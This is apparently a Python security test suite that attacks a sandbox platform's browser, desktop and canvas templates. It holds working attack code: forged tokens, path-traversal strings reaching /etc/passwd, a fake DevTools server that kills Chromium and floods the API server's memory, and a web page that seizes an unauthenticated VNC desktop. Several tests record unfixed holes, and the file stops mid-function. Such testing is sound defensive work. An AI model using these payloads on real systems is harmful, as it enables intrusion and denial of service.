"""Attacks on the browser, cua and canvas templates: their access tokens (CDP URL, desktop live
view, canvas view page), the token routes that skip the API-key check, the relays into the
sandbox (CDP over envd's /proxy, VNC over /tcp), the canvas's files and renders, and what sandbox
code, another tenant or a local host user can do with them.

Each test is one attack and asserts the secure behaviour. Those marked "HOLE:" in their
docstrings failed when written (the docstring says what goes wrong and what should happen)."""

from __future__ import annotations

import asyncio
import base64
import contextlib
import json
import os
import re
import socket
import struct
import threading
import time
from pathlib import Path
from urllib.parse import urlparse

import httpx
import pytest
import websockets.exceptions
import websockets.sync.client as ws_client
from cryptography.hazmat.decrepit.ciphers.algorithms import TripleDES
from cryptography.hazmat.primitives.ciphers import Cipher, modes

from e2a.api.access import AccessTokens, Grant
from e2a.runtime.runsc import ENVD_PORT
from e2a.sandboxes.agent_keys import AgentKeys
from e2a.sandboxes.connections import MAX_CONNECTIONS_PER_SANDBOX
from e2a.templates.builder import SANDBOX_UID
from tests.conftest import wait_for
from tests.security.conftest import NOBODY, as_user, envd_launch, raw_request, rss_kib



# ---- fixtures and helpers -------------------------------------------------------------------

@pytest.fixture(scope="module")
def browser_sb(alice):
    sb = alice.create_sandbox("browser", idle_timeout_seconds=900)
    yield sb
    alice.kill(sb.vm_id)


@pytest.fixture(scope="module")
def canvas_sb(alice):
    sb = alice.create_sandbox("canvas", idle_timeout_seconds=900)
    alice.files.write(sb.vm_id, "/home/user/canvas/index.html", b"<!doctype html><p>canvas")
    yield sb
    alice.kill(sb.vm_id)


@pytest.fixture(scope="module")
def cua_sb(alice):
    sb = alice.create_sandbox("cua", idle_timeout_seconds=900)
    yield sb
    alice.kill(sb.vm_id)


@pytest.fixture
def fake_cdp_sb(alice):
    """A canvas sandbox of its own (browser endpoint and renders) whose Chromium the test's
    sandbox code replaces: it is left broken, so nobody else uses it."""
    sb = alice.create_sandbox("canvas", idle_timeout_seconds=900)
    yield sb
    alice.kill(sb.vm_id)


def auth(key: str) -> dict:
    return {"Authorization": f"Bearer {key}"}


def ws_base(server) -> str:
    return server.url.replace("http://", "ws://", 1)


def token_of(url: str) -> str:
    path = urlparse(url).path.rstrip("/")
    return path.split("/")[3]


def cdp_url(server, keys, vm_id: str, who: str = "alice") -> str:
    r = httpx.get(f"{server.url}/v1/sandboxes/{vm_id}/browser", headers=auth(keys[who]),
                  timeout=60)
    assert r.status_code == 200, r.text
    return r.json()["cdp_url"]


def canvas_url(server, keys, vm_id: str) -> str:
    r = httpx.get(f"{server.url}/v1/sandboxes/{vm_id}/canvas", headers=auth(keys["alice"]),
                  timeout=60)
    assert r.status_code == 200, r.text
    return r.json()["view_url"]


def stream_url(server, keys, vm_id: str, view_only: bool, ttl: int = 3600) -> str:
    r = httpx.post(f"{server.url}/v1/sandboxes/{vm_id}/desktop/stream", headers=auth(keys["alice"]),
                   json={"view_only": view_only, "ttl_seconds": ttl}, timeout=60)
    assert r.status_code == 200, r.text
    return r.json()["url"]


def minted(server, grant: Grant) -> str:
    """A token signed with the server's own key (root on the host may read it): for grants the
    API would not hand out, such as one that expires in seconds."""
    return AccessTokens(AgentKeys(server.base / "data" / "agent.key")).issue(grant)


def ws_status(url: str, open_timeout: float = 30) -> int:
    """The status a WebSocket handshake gets (101 if accepted)."""
    try:
        with ws_client.connect(url, open_timeout=open_timeout, max_size=None):
            return 101
    except websockets.exceptions.InvalidStatus as e:
        return e.response.status_code


def stalled_ws(url: str) -> socket.socket:
    """A WebSocket client that completes the handshake and then never reads (a tiny receive
    buffer, so the server's side fills at once)."""
    u = urlparse(url)
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    s.settimeout(60)
    s.connect((u.hostname, u.port))
    key = base64.b64encode(os.urandom(16)).decode()
    s.sendall((f"GET {u.path}{'?' + u.query if u.query else ''} HTTP/1.1\r\n"
               f"Host: {u.hostname}:{u.port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
               f"Sec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n\r\n").encode())
    head = b""
    while b"\r\n\r\n" not in head:
        more = s.recv(1)
        if not more:
            break
        head += more
    assert head.startswith(b"HTTP/1.1 101"), head[:200]
    return s


@contextlib.contextmanager
def peak_rss(pid: int):
    """Samples the server's RSS (KiB) every 50 ms; yields a dict with `before` and `peak`."""
    out = {"before": rss_kib(pid)}
    out["peak"] = out["before"]
    stop = threading.Event()

    def sample():
        while not stop.is_set():
            out["peak"] = max(out["peak"], rss_kib(pid))
            stop.wait(0.05)
    t = threading.Thread(target=sample, daemon=True)
    t.start()
    try:
        yield out
    finally:
        stop.set()
        t.join()
        out["peak"] = max(out["peak"], rss_kib(pid))


def vnc_response(password: str, challenge: bytes) -> bytes:
    """VNC authentication: the challenge DES-encrypted with the password, each key byte's bits
    reversed (as every VNC implementation does)."""
    key = bytes(int(f"{b:08b}"[::-1], 2) for b in password.encode()[:8].ljust(8, b"\0"))
    enc = Cipher(TripleDES(key * 3), modes.ECB()).encryptor()
    return enc.update(challenge) + enc.finalize()


def live_view_password(ws_url: str) -> str:
    """What the live-view page gives its noVNC: the password of the server this URL's mode
    reaches (the page lives next to the `vnc` WebSocket)."""
    page_url, _, query = ws_url.replace("ws", "http", 1).partition("vnc?")
    config = json.loads(re.search(r"const config = (\{.*?\});",
                                  httpx.get(page_url, timeout=30).text).group(1))
    return config["control" if "mode=control" in query else "view"]


class RFB:
    """The least of an RFB (VNC) client, over e2a's live-view WebSocket, logging in with the
    password the live-view page hands its own client."""

    def __init__(self, url: str):
        password = live_view_password(url)
        self.ws = ws_client.connect(url, subprotocols=["binary"], max_size=None,
                                    open_timeout=30)
        self.buf = b""
        assert self.read(12).startswith(b"RFB ")
        self.ws.send(b"RFB 003.008\n")
        types = self.read(self.read(1)[0])
        assert types == b"\x02", types  # VNC authentication only, never None
        self.ws.send(b"\x02")
        self.ws.send(vnc_response(password, self.read(16)))
        assert struct.unpack(">I", self.read(4))[0] == 0
        self.ws.send(b"\x01")  # shared
        self.width, self.height = struct.unpack(">HH", self.read(4))
        self.read(16)
        self.read(struct.unpack(">I", self.read(4))[0])

    def read(self, n: int, timeout: float = 30) -> bytes:
        while len(self.buf) < n:
            m = self.ws.recv(timeout=timeout)
            self.buf += m if isinstance(m, bytes) else m.encode()
        out, self.buf = self.buf[:n], self.buf[n:]
        return out

    def pointer(self, x: int, y: int, mask: int = 0) -> None:
        self.ws.send(struct.pack(">BBHH", 5, mask, x, y))

    def update_request(self) -> None:
        self.ws.send(struct.pack(">BBHHHH", 3, 0, 0, 0, 16, 16))

    def close(self) -> None:
        with contextlib.suppress(Exception):
            self.ws.close()


# Run as `user` in a canvas sandbox: Chromium's DevTools replaced by a server of the sandbox
# code's own on 127.0.0.1:9222 (Chromium runs as `user`, so `user` may stop it; envd restarts
# it, the loop wins the port). Modes:
#   version MiB         /json/version answers a body of MiB MiB
#   flood MiB COUNT     /json/version is normal; the browser WebSocket gets COUNT (0: no end)
#                       CDP events of MiB MiB each (valid JSON text messages), then closes
FAKE_CDP = r'''
import base64, hashlib, os, signal, socket, sys, threading, time
mode, mib = sys.argv[1], int(sys.argv[2])
count = int(sys.argv[3]) if len(sys.argv) > 3 else 0
def stop_chromium():
    for p in os.listdir("/proc"):
        if p.isdigit():
            try:
                cmd = open(f"/proc/{p}/cmdline", "rb").read()
            except OSError:
                continue
            if b"remote-debugging-port" in cmd:
                try:
                    os.killpg(int(p), signal.SIGKILL)
                except OSError:
                    pass
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
for _ in range(600):
    stop_chromium()
    try:
        s.bind(("127.0.0.1", 9222)); break
    except OSError:
        time.sleep(0.05)
else:
    sys.exit("could not take 9222")
s.listen(64)
print("listening", flush=True)
chunk = b" " * (1 << 20)
def serve(c):
    req = b""
    while b"\r\n\r\n" not in req:
        d = c.recv(4096)
        if not d:
            return
        req += d
    if b"/json/version" in req.split(b"\r\n")[0]:
        if mode == "version":
            c.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
                      b"Content-Length: %d\r\n\r\n" % (mib << 20))
            for _ in range(mib):
                c.sendall(chunk)
            time.sleep(30)
        else:
            body = b'{"webSocketDebuggerUrl": "ws://127.0.0.1:9222/devtools/browser/fake"}'
            c.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
                      b"Content-Length: %d\r\n\r\n" % len(body) + body)
        c.close()
        return
    key = [l.split(b":", 1)[1].strip() for l in req.split(b"\r\n")
           if l.lower().startswith(b"sec-websocket-key:")][0]
    acc = base64.b64encode(hashlib.sha1(key + b"258EAFA5-E914-47DA-95CA-C5AB0DC85B11").digest())
    c.sendall(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\n"
              b"Connection: Upgrade\r\nSec-WebSocket-Accept: " + acc + b"\r\n\r\n")
    pre, post = b'{"method":"Pad","params":{"p":"', b'"}}'
    head = b"\x81\x7f" + ((mib << 20) + len(pre) + len(post)).to_bytes(8, "big") + pre
    sent = 0
    try:
        while count == 0 or sent < count:
            c.sendall(head)
            for _ in range(mib):
                c.sendall(chunk)
            c.sendall(post)
            sent += 1
        time.sleep(1)
    except OSError:
        pass
    c.close()
while True:
    c, _ = s.accept()
    threading.Thread(target=serve, args=(c,), daemon=True).start()
'''


def replace_chromium(alice, vm_id: str, *args) -> None:
    alice.files.write(vm_id, "/tmp/fakecdp.py", FAKE_CDP.encode())
    alice.run_background(vm_id, "python3 /tmp/fakecdp.py " + " ".join(map(str, args))
                         + " > /tmp/fakecdp.log 2>&1")
    wait_for(lambda: "listening" in alice.run(vm_id, "cat /tmp/fakecdp.log").stdout,
             timeout=60)


# ---- tokens: forgery, purposes, other tenants ------------------------------------------------

def test_forged_and_altered_tokens_are_refused(server, keys, alice, bob, browser_sb):
    """Bob has a CDP URL of his own browser sandbox. Changing its payload to name alice's
    sandbox, its MAC's case or length, or gluing his MAC to alice's payload, gets nothing."""
    bobs = bob.create_sandbox("browser", idle_timeout_seconds=600)
    try:
        mine = token_of(cdp_url(server, keys, bobs.vm_id, "bob"))
        payload, mac = mine.split(".")
        theirs = base64.urlsafe_b64encode(json.dumps(
            [browser_sb.vm_id, "cdp", 0, True], separators=(",", ":")).encode()
        ).rstrip(b"=").decode()
        forged = [f"{theirs}.{mac}", f"{theirs}.{mac.upper()}", f"{payload}.{mac.upper()}",
                  f"{payload}.{mac[:-1]}", f"{payload}.{mac}0", f"{payload}={mac}",
                  f"{theirs}.", f"{theirs}", f"{payload}.{mac}.{mac}", theirs + "." + "0" * 40,
                  f"{payload}=.{mac}", f" {payload}.{mac}"]
        for tok in forged:
            assert ws_status(f"{ws_base(server)}/v1/browser/{tok}") in (400, 401, 403, 404), tok
            r = httpx.get(f"{server.url}/v1/canvas/{tok}/files/index.html", timeout=30)
            assert r.status_code in (400, 401, 404), (tok, r.status_code)
        # his own token still works, and only for his own sandbox
        with ws_client.connect(f"{ws_base(server)}/v1/browser/{mine}", open_timeout=30,
                               max_size=None) as c:
            c.send(json.dumps({"id": 1, "method": "Target.getTargets"}))
            assert '"result"' in c.recv(timeout=30)
    finally:
        bob.kill(bobs.vm_id)


def test_a_token_is_good_for_its_own_purpose_only(server, keys, canvas_sb, cua_sb):
    """The canvas sandbox also serves CDP; its view token must not open CDP, a desktop token
    must not open a canvas or CDP, a CDP token no live view or canvas."""
    tokens = {"cdp": token_of(cdp_url(server, keys, canvas_sb.vm_id)),
              "canvas": token_of(canvas_url(server, keys, canvas_sb.vm_id)),
              "desktop": token_of(stream_url(server, keys, cua_sb.vm_id, view_only=False))}
    for purpose, tok in tokens.items():
        if purpose != "cdp":
            assert ws_status(f"{ws_base(server)}/v1/browser/{tok}") in (401, 403), purpose
        if purpose != "canvas":
            for path in ("", "files/index.html", "changes?timeout_ms=0"):
                r = httpx.get(f"{server.url}/v1/canvas/{tok}/{path}", timeout=30)
                assert r.status_code == 401, (purpose, path, r.status_code)
        if purpose != "desktop":
            r = httpx.get(f"{server.url}/v1/desktop/{tok}/", timeout=30)
            assert r.status_code == 401, (purpose, r.status_code)
            for mode in ("view", "control"):
                assert ws_status(f"{ws_base(server)}/v1/desktop/{tok}/vnc?mode={mode}") in (
                    401, 403), (purpose, mode)


def test_other_tenants_get_404_on_every_template_route(server, keys, browser_sb, canvas_sb,
                                                       cua_sb):
    """Bob, with only his key and the ids of alice's sandboxes, reaches none of their
    template routes (and cannot hand alice's desktop control back)."""
    h = auth(keys["bob"])
    calls = [("GET", f"/v1/sandboxes/{browser_sb.vm_id}/browser", None),
             ("GET", f"/v1/sandboxes/{canvas_sb.vm_id}/browser", None),
             ("GET", f"/v1/sandboxes/{canvas_sb.vm_id}/canvas", None),
             ("POST", f"/v1/sandboxes/{canvas_sb.vm_id}/canvas/render", {"width": 64}),
             ("POST", f"/v1/sandboxes/{cua_sb.vm_id}/desktop/stream", {"view_only": False}),
             ("GET", f"/v1/sandboxes/{cua_sb.vm_id}/desktop/screenshot", None),
             ("GET", f"/v1/sandboxes/{cua_sb.vm_id}/desktop/windows", None),
             ("GET", f"/v1/sandboxes/{cua_sb.vm_id}/desktop/cursor", None),
             ("GET", f"/v1/sandboxes/{cua_sb.vm_id}/desktop/control", None),
             ("DELETE", f"/v1/sandboxes/{cua_sb.vm_id}/desktop/control", None),
             ("POST", f"/v1/sandboxes/{cua_sb.vm_id}/desktop/actions",
              {"action": "key", "text": "Return"})]
    for method, path, body in calls:
        r = httpx.request(method, server.url + path, headers=h, json=body, timeout=60)
        assert r.status_code == 404, (method, path, r.status_code, r.text[:200])
        assert r.json()["error"]["code"] == "sandbox_not_found"
        # and without any key: 401 before anything
        r = httpx.request(method, server.url + path, json=body, timeout=60)
        assert r.status_code == 401, (method, path, r.status_code)


def test_a_destroyed_sandboxs_tokens_open_nothing(server, keys, alice):
    sb = alice.create_sandbox("canvas", idle_timeout_seconds=600)
    cdp = cdp_url(server, keys, sb.vm_id)
    view = canvas_url(server, keys, sb.vm_id)
    alice.kill(sb.vm_id)
    assert ws_status(cdp) == 404
    assert httpx.get(view, timeout=30).status_code == 404
    assert httpx.get(view + "changes?timeout_ms=0", timeout=30).status_code == 404


# ---- the key check: TOKEN_ROUTES tricks ------------------------------------------------------

TRICK_PATHS = [
    "/v1/desktop/../sandboxes", "/v1/desktop/x/../../sandboxes",
    "/v1/canvas/x/../../sandboxes/{vm}", "/v1/desktop/%2e%2e/sandboxes",
    "/v1/desktop%2F..%2Fsandboxes", "/v1/canvas/x%2F..%2F..%2Fsandboxes",
    "/v1/canvas/x%2F..%2F..%2Fsandboxes%2F{vm}%2Ffiles?path=/etc/passwd",
    "/v1/novnc/../sandboxes", "/v1/novnc/..%2F..%2Fsandboxes", "/v1/novnc/%2e%2e/%2e%2e/sandboxes",
    "/v1/browser/x/../../sandboxes/{vm}/files?path=/etc/passwd",
    "/v1/canvas/x/files/../../../sandboxes/{vm}/files?path=/etc/passwd",
    "/v1/canvas/x/files/..%2F..%2F..%2Fsandboxes%2F{vm}%2Ffiles?path=/etc/passwd",
    "/v1/novnc//v1/sandboxes", "/v1/canvas/x/%0a/../../sandboxes", "/v1//sandboxes",
    "//v1/sandboxes", "/v1/sandboxes/", "/V1/sandboxes", "/v1/canvas//", "/v1/desktop/x/vnc",
    "/v1/browser/x", "/v1/novnc/../../../../etc/passwd",
    "/v1/novnc/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "/v1/novnc/app/../../../../etc/passwd",
    "/v1/novnc/%2fetc%2fpasswd",
]


@pytest.mark.parametrize("method", ["GET", "POST", "DELETE"])
def test_token_route_paths_never_reach_key_routes_without_a_key(server, canvas_sb, method):
    """Dot segments, encoded slashes, doubled slashes and odd cases in paths that the guard
    takes for token routes: no key route answers, no file outside noVNC is served."""
    for path in TRICK_PATHS:
        path = path.replace("{vm}", canvas_sb.vm_id)
        status, body = raw_request(server, f"{method} {path} HTTP/1.1\r\nHost: e2a\r\n"
                                   "Content-Length: 0\r\nConnection: close", read_timeout=30)
        assert status in (400, 401, 404, 405), (path, status, body[:200])
        assert b"root:" not in body and canvas_sb.vm_id.encode() not in body, (path, body[:200])


# ---- the desktop's live view -----------------------------------------------------------------

def test_view_only_token_never_reaches_control(server, keys, alice, cua_sb):
    """A view-only live-view token: mode=control is refused, and pointer events sent over the
    view connection do not move the pointer (x11vnc -viewonly)."""
    url = stream_url(server, keys, cua_sb.vm_id, view_only=True)
    base = url.replace("http://", "ws://", 1)
    for q in ("mode=control", "mode=view&mode=control", "mode=CONTROL", "mode=control%00"):
        assert ws_status(base + "vnc?" + q) in (400, 403), q
    alice.run(cua_sb.vm_id, "xdotool mousemove 7 7", env={"DISPLAY": ":0"})
    rfb = RFB(base + "vnc?mode=view")
    try:
        rfb.pointer(333, 222, 1)
        rfb.pointer(333, 222, 0)
        time.sleep(1.5)
    finally:
        rfb.close()
    where = alice.run(cua_sb.vm_id, "xdotool getmouselocation", env={"DISPLAY": ":0"}).stdout
    assert where.startswith("x:7 y:7"), where
    # not held either: the agent's actions are not blocked by a watcher
    r = httpx.get(f"{server.url}/v1/sandboxes/{cua_sb.vm_id}/desktop/control",
                  headers=auth(keys["alice"]), timeout=30)
    assert r.json() == {"human_in_control": False}


def test_actions_answer_409_while_a_person_holds_control(server, keys, cua_sb):
    url = stream_url(server, keys, cua_sb.vm_id, view_only=False)
    rfb = RFB(url.replace("http://", "ws://", 1) + "vnc?mode=control")
    try:
        r = httpx.post(f"{server.url}/v1/sandboxes/{cua_sb.vm_id}/desktop/actions",
                       headers=auth(keys["alice"]), json={"action": "mouse_move",
                                                          "coordinate": [1, 1]}, timeout=60)
        assert r.status_code == 409 and r.json()["error"]["code"] == "human_in_control", r.text
    finally:
        rfb.close()
        httpx.delete(f"{server.url}/v1/sandboxes/{cua_sb.vm_id}/desktop/control",
                     headers=auth(keys["alice"]), timeout=30)


def test_owner_taking_control_back_is_not_undone_by_the_same_link(server, keys, cua_sb):
    """HOLE: DELETE /desktop/control closes the person's control connections, but their
    token stays good: the same live-view link takes control again at once (the page's own
    "Take control" button), so the owner can never take the desktop back short of destroying
    the sandbox (tokens cannot be revoked). Should: ending control revokes control for the
    tokens issued before it (e.g. a per-sandbox control generation in the grant, bumped by
    DELETE), so that link can at most watch."""
    url = stream_url(server, keys, cua_sb.vm_id, view_only=False)
    control = url.replace("http://", "ws://", 1) + "vnc?mode=control"
    h = auth(keys["alice"])
    rfb = RFB(control)
    try:
        r = httpx.delete(f"{server.url}/v1/sandboxes/{cua_sb.vm_id}/desktop/control", headers=h,
                         timeout=30)
        assert r.json() == {"human_in_control": False}
        with pytest.raises(websockets.exceptions.ConnectionClosed):
            rfb.read(1, timeout=10)
    finally:
        rfb.close()
    status = ws_status(control)
    held = httpx.get(f"{server.url}/v1/sandboxes/{cua_sb.vm_id}/desktop/control", headers=h,
                     timeout=30).json()
    httpx.delete(f"{server.url}/v1/sandboxes/{cua_sb.vm_id}/desktop/control", headers=h,
                 timeout=30)
    assert status != 101 and held == {"human_in_control": False}, (status, held)


def test_an_expired_live_view_token_ends_its_open_connection(server, keys, cua_sb):
    """HOLE: a live-view token's expiry is checked only when the WebSocket opens; a view (or
    control) connection opened a second before expiry keeps relaying the desktop for as long
    as it stays open. `ttl_seconds` does not bound what a shared link shows. Should: the relay
    ends at the grant's `expires` (close code 4001 or similar)."""
    tok = minted(server, Grant(cua_sb.vm_id, "desktop", int(time.time()) + 4, True))
    rfb = RFB(f"{ws_base(server)}/v1/desktop/{tok}/vnc?mode=view")
    try:
        time.sleep(7)
        # what is checked today: the page and new connections
        assert httpx.get(f"{server.url}/v1/desktop/{tok}/", timeout=30).status_code == 401
        assert ws_status(f"{ws_base(server)}/v1/desktop/{tok}/vnc?mode=view") == 401
        relayed = True
        try:
            rfb.update_request()
            rfb.read(4, timeout=10)
        except (websockets.exceptions.ConnectionClosed, TimeoutError, OSError):
            relayed = False
    finally:
        rfb.close()
    assert not relayed, "the desktop is still relayed 3 s after the token expired"


# A web page that speaks RFB to the desktop's VNC server on the sandbox's loopback (x11vnc has
# WebSockets built in, checks no Origin and asks no password), and moves the pointer to ?x=&y=.
VNC_PAGE = r"""<!doctype html><title>a page</title><script>
const q = new URLSearchParams(location.search);
const ws = new WebSocket("ws://127.0.0.1:" + q.get("port") + "/", ["binary"]);
ws.binaryType = "arraybuffer";
let got = 0, step = 0;
const send = (a) => ws.send(new Uint8Array(a));
ws.onmessage = (e) => {
  got += e.data.byteLength;
  if (step === 0 && got >= 12) { ws.send(new TextEncoder().encode("RFB 003.008\n")); step = 1; }
  if (step === 1 && got >= 14) { send([1]); step = 2; }
  if (step === 2 && got >= 18) { send([1]); step = 3; document.title = "connected";
    const x = +q.get("x"), y = +q.get("y");
    setTimeout(() => send([5, 0, x >> 8, x & 255, y >> 8, y & 255]), 300); }
};
ws.onerror = () => { document.title = "refused"; };
</script>"""

VISIT = r"""
import sys
from playwright.sync_api import sync_playwright
with sync_playwright() as p:
    b = p.chromium.launch(args=["--no-sandbox"])
    page = b.new_page()
    page.goto(sys.argv[1])
    page.wait_for_timeout(3000)
    print(page.title())
    b.close()
"""


def test_web_pages_in_the_desktop_cannot_drive_its_vnc_servers(alice, cua_sb):
    """HOLE: both x11vnc servers of the cua desktop listen on 127.0.0.1 without a password and
    (libvncserver) accept WebSocket upgrades from any Origin. A web page that the agent's
    Chromium on the desktop opens (a file it downloaded, a page of a repository it serves on
    localhost) connects to ws://127.0.0.1:5901 and gets the keyboard and mouse: it types into
    the terminal, i.e. runs code as `user`, unseen by e2a's human-control gate, and through 5900
    it watches the screen. Should: the VNC servers are unreachable from the browser: a Unix
    socket only (x11vnc -rfbport 0 -unixsock ..., envd's /tcp relay dialling it), or a
    password (-rfbauth) that only e2a's relay supplies."""
    vm = cua_sb.vm_id
    alice.files.write(vm, "/home/user/www/page.html", VNC_PAGE.encode())
    alice.files.write(vm, "/tmp/visit.py", VISIT.encode())
    alice.run_background(vm, "python3 -m http.server 8124 --bind 127.0.0.1 "
                             "--directory /home/user/www")
    wait_for(lambda: "8124" in alice.run(vm, "ss -ltn").stdout, timeout=30)
    moved = []
    for i, origin in enumerate(("file:///home/user/www", "http://127.0.0.1:8124")):
        x, y = 101 + 40 * i, 201 + 20 * i
        alice.run(vm, "xdotool mousemove 9 9")
        r = alice.run(vm, f"python3 /tmp/visit.py '{origin}/page.html?port=5901&x={x}&y={y}'",
                      timeout=120)
        assert r.exit_code == 0, r.stderr[-500:]
        where = alice.run(vm, "xdotool getmouselocation").stdout
        if where.startswith(f"x:{x} y:{y}"):
            moved.append((origin, r.stdout.strip()))
    assert moved == [], f"pages drove the desktop through x11vnc: {moved}"


# ---- token holders and the owner's connection budget ----------------------------------------

def test_a_view_link_holder_cannot_lock_the_owner_out_of_the_sandbox(server, keys, alice):
    """HOLE: the token routes (canvas long polls, canvas files, CDP and VNC relays) take
    connections from the sandbox's own budget (MAX_CONNECTIONS_PER_SANDBOX = 128) and have no
    budget of their own: anyone with the read-only canvas link (or a view-only desktop link)
    holds 128 long polls of /changes and the owner's commands, files and PTY then get 429
    too_many_connections for as long as they keep polling (and the sandbox never idles out).
    Should: token-route connections have a budget of their own (per token or per sandbox, well
    below the sandbox's), so that the owner's API always has room."""
    sb = alice.create_sandbox("canvas", idle_timeout_seconds=600)
    view = canvas_url(server, keys, sb.vm_id)
    version = httpx.get(view + "changes?timeout_ms=0", timeout=30).json()["version"]

    async def go():
        limits = httpx.Limits(max_connections=MAX_CONNECTIONS_PER_SANDBOX + 20)
        async with httpx.AsyncClient(timeout=90, limits=limits) as anon, \
                httpx.AsyncClient(base_url=server.url, headers=auth(keys["alice"]),
                                  timeout=90) as owner:
            polls = [asyncio.ensure_future(anon.get(view + f"changes?since={version}"
                                                    "&timeout_ms=30000"))
                     for _ in range(MAX_CONNECTIONS_PER_SANDBOX + 8)]
            await asyncio.sleep(6)
            try:
                return await owner.post(f"/v1/sandboxes/{sb.vm_id}/commands",
                                        json={"cmd": "echo owner"})
            finally:
                for p in polls:
                    p.cancel()
                await asyncio.gather(*polls, return_exceptions=True)

    try:
        r = asyncio.run(go())
    finally:
        alice.kill(sb.vm_id)
    assert r.status_code == 200 and "owner" in r.text, (r.status_code, r.text[:200])


# ---- memory: what sandbox code makes the API server hold ------------------------------------

def test_chromiums_version_answer_is_not_read_whole_into_the_server(server, alice, keys,
                                                                    fake_cdp_sb):
    """HOLE: every CDP connection and every render first reads Chromium's /json/version
    through envd's relay with `await up.response.read()`, without a limit. Chromium runs as
    `user`, so any code in the sandbox can put a server of its own on 127.0.0.1:9222 whose
    answer is gigabytes long: the API server reads it all into memory (here 300 MiB made the
    server grow by 600-800 MiB, then a 500 with a JSONDecodeError traceback). A few such
    requests, or one 20 GiB answer, take the whole service down for every tenant. Should:
    read at most a few KiB of that answer (e.g. `await up.response.content.read(64 << 10)`,
    refusing more) and answer 502 browser_unreachable on anything unexpected."""
    replace_chromium(alice, fake_cdp_sb.vm_id, "version", 300)
    url = cdp_url(server, keys, fake_cdp_sb.vm_id)
    with peak_rss(server.proc.pid) as mem:
        status = ws_status(url, open_timeout=120)
    grown = (mem["peak"] - mem["before"]) // 1024
    assert status in (502, 504) and grown < 64, (status, f"the server grew by {grown} MiB")


def test_stalled_cdp_clients_hold_little_of_the_server(server, alice, keys, fake_cdp_sb):
    """HOLE: the CDP relay accepts 64 MiB messages from the sandbox (CDP_MAX_MESSAGE; the
    earlier fix made every other relay 4 MiB with a queue of 2). Sandbox code answering on
    9222 sends 60 MiB messages; a client of the owner's (the CDP URL is the tenant's own) that
    never reads leaves each connection holding 100-300 MiB of the server (4 held 1.2 GiB),
    and one sandbox may have 128 connections: tens of GiB from one tenant. Should: what a
    stalled CDP connection holds is bounded like the other relays (here under 32 MiB per
    connection): a smaller message limit, or a per-connection/per-user byte budget."""
    replace_chromium(alice, fake_cdp_sb.vm_id, "flood", 60, 0)
    url = cdp_url(server, keys, fake_cdp_sb.vm_id)
    pid = server.proc.pid
    before = rss_kib(pid)
    conns = [stalled_ws(url) for _ in range(4)]
    try:
        time.sleep(12)
        held = (rss_kib(pid) - before) // 1024
    finally:
        for c in conns:
            c.close()
    assert held < 32 * len(conns), f"{len(conns)} stalled CDP clients hold {held} MiB"


def test_renders_do_not_buffer_whatever_the_sandboxes_chromium_sends(server, alice, keys,
                                                                     fake_cdp_sb):
    """HOLE: a render talks to the sandbox's own Chromium with a 256 MiB message limit and
    parses every message whole (json.loads), events it does not wait for included. Sandbox
    code on 9222 answering with 150 MiB events makes each render hold hundreds of MiB (two
    64x64 renders: +1.3 GiB; four with 200 MiB events: 0.1 -> 3.3 GiB); nothing bounds how
    many renders run at once. Should: a 64x64 render needs no message over a few MiB: limit the
    message size to what the requested size can need (width x height x 4 x 4/3 plus slack),
    refuse bigger, and bound concurrent renders per user."""
    replace_chromium(alice, fake_cdp_sb.vm_id, "flood", 150, 3)
    results = []

    def render():
        r = httpx.post(f"{server.url}/v1/sandboxes/{fake_cdp_sb.vm_id}/canvas/render",
                       headers=auth(keys["alice"]), json={"width": 64, "height": 64},
                       timeout=180)
        results.append(r.status_code)
    with peak_rss(server.proc.pid) as mem:
        threads = [threading.Thread(target=render) for _ in range(2)]
        for t in threads:
            t.start()
        for t in threads:
            t.join(180)
    grown = (mem["peak"] - mem["before"]) // 1024
    assert all(s != 200 for s in results), results
    assert grown < 128, f"two 64x64 renders made the server grow by {grown} MiB"


# ---- the canvas ------------------------------------------------------------------------------

CANVAS_PROBE = r"""<!doctype html><body><pre id=out>running</pre><script>
const out = [];
const note = (k, v) => out.push(k + "=" + v);
(async () => {
  note("origin", self.origin);
  try { note("parent", String(parent.document.body.innerHTML.length)); } catch (e) { note("parent", "denied"); }
  try { localStorage.setItem("x", "1"); note("storage", "yes"); } catch (e) { note("storage", "denied"); }
  try { document.cookie = "a=1"; note("cookie", document.cookie === "" ? "denied" : "yes"); } catch (e) { note("cookie", "denied"); }
  const view = location.pathname.split("/files/")[0];
  for (const u of [view + "/changes?timeout_ms=0", view + "/", "/v1/templates", "/openapi.json",
                   "/v1/novnc/vnc.html", "/health"]) {
    try { const r = await fetch(u); note("fetch " + u, "read " + (await r.text()).length); }
    catch (e) { note("fetch " + u, "denied"); }
  }
  document.getElementById("out").textContent = out.join("\n");
})();
</script></body>"""


def test_canvas_html_runs_in_an_opaque_origin(server, keys, alice, canvas_sb):
    """The agent's HTML, in the view page's iframe and opened directly: an opaque origin that
    reads nothing of e2a's origin (the view page, its long poll, the API, noVNC) and has no
    storage or cookies there."""
    from playwright.sync_api import sync_playwright
    alice.files.write(canvas_sb.vm_id, "/home/user/canvas/probe/index.html", CANVAS_PROBE.encode())
    view = canvas_url(server, keys, canvas_sb.vm_id)
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path="/usr/bin/chromium", args=["--no-sandbox"])
        try:
            page = browser.new_page()
            page.goto(view + "files/probe/")
            page.locator("#out").filter(has_text="fetch /health").wait_for(timeout=30000)
            direct = page.locator("#out").inner_text()
            page.goto(view)
            page.evaluate("document.getElementById('canvas').src = 'files/probe/'")
            framed = page.frame_locator("#canvas").locator("#out")
            framed.filter(has_text="fetch /health").wait_for(timeout=30000)
            framed = framed.inner_text()
        finally:
            browser.close()
    for text in (direct, framed):
        lines = dict(line.rsplit("=", 1) for line in text.splitlines())
        assert lines["origin"] == "null", text
        assert lines["storage"] == "denied" and lines["cookie"] == "denied", text
        assert all(v == "denied" for k, v in lines.items() if k.startswith("fetch")), text
    assert dict(line.rsplit("=", 1) for line in framed.splitlines())["parent"] == "denied"


def test_canvas_files_always_carry_the_sandbox_policy(server, keys, alice, canvas_sb):
